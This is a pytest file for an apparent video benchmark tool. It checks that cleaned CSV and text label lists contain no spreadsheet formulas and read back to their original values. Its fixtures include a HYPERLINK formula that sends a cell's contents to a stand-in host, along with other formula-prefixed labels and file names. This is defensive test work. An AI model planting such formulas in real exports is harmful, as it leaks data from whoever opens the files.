"""Lists and tables that a check writes hold no formula of a spreadsheet, and are read as what they were made of."""

import csv
from pathlib import Path

import pytest
from video_files import MakeVideo

import hwbench
from hwbench.data.clean_lists import check_target, write_lists
from hwbench.data.listings import DataListing, SplitVideo, open_listing
from hwbench.data.readers import ListedVideo
from hwbench.data.readers.lists import listed_video
from hwbench.errors import UsageError
from hwbench.workspace import Workspace


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    return Workspace.create(tmp_path / "bench")


def listing(video: SplitVideo) -> DataListing:
    return DataListing("x", Path(), (video,), ("walk",), own_split=False)


def test_19_17_clean_tables_hold_no_formula_and_are_read_the_same(
    workspace: Workspace, make_video: MakeVideo, tmp_path: Path
) -> None:
    labels = ['=HYPERLINK("//e.example/?x="&A1)', "+1", "@SUM(A1)", "\uff1d1", "'=1", "'walk"]
    folder = tmp_path / "clips"
    folder.mkdir()
    with (folder / "all.csv").open("w", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["path", "label", "start_s", "end_s", "group"])
        for number, label in enumerate(labels):
            make_video(f"clips/{'=1+' * (number % 2)}{number}.mp4", count=50 + number)
            # What reading takes away stands before what begins with an apostrophe itself.
            cell = f"'{label}" if label.startswith("'=") else label
            rows.writerow([f"{'=1+' * (number % 2)}{number}.mp4", cell, "0", "1", f"-{number}"])
    data, out = f"table:{folder / 'all.csv'}", folder / "clean.csv"
    hwbench.check_data(hwbench.CheckDataRequest(data=data, out=out, jobs=0), workspace=workspace)
    with out.open(newline="") as file:
        written = list(csv.reader(file))
    assert len(written) == len(labels) + 1
    assert not [cell for row in written for cell in row if cell[:1] in set("=+-@\uff1d")]

    def read(data: str) -> set[tuple[object, ...]]:
        listed = [video.listed for video in open_listing(workspace, data).videos]
        return {(one.path.resolve(), one.label, one.part, one.group) for one in listed}

    assert read(f"table:{out}") == read(data)
    assert {label for _, label, _, _ in read(data)} == set(labels)


@pytest.mark.parametrize("name", ["=1+1.mp4", "-a.mp4", "@a.mp4"])
def test_19_17_lines_of_clean_lists_are_no_formula(tmp_path: Path, name: str) -> None:
    video = SplitVideo(ListedVideo(tmp_path / name, "walk"), "train")
    for out in (tmp_path / "clean.csv", tmp_path / "clean.txt"):
        check_target(listing(video), out)
        write_lists([video], out)
        assert out.read_text() == f"./{name} walk\n"
        assert listed_video(tmp_path, f"./{name} walk").path.resolve() == tmp_path / name
    hidden = SplitVideo(ListedVideo(tmp_path / "a.mp4", "walk,=1+1"), "train")
    check_target(listing(hidden), tmp_path / "clean.txt")
    with pytest.raises(UsageError, match=r"formula to spreadsheets .*: --out .*/more\.txt$"):
        check_target(listing(hidden), tmp_path / "more.csv")
